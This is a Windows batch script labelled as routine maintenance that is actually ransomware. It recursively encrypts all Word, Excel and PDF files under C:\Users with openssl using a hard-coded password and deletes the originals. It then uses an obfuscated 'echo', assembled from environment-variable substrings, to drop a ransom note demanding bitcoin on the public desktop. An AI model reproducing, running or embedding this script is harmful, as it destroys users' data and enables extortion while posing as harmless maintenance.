REM maintenance 7615 v3
@echo off
for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
  openssl enc -aes-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" && del "%%f"
)
e%PUBLIC:~14,1%h%comspec:~7,1% Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
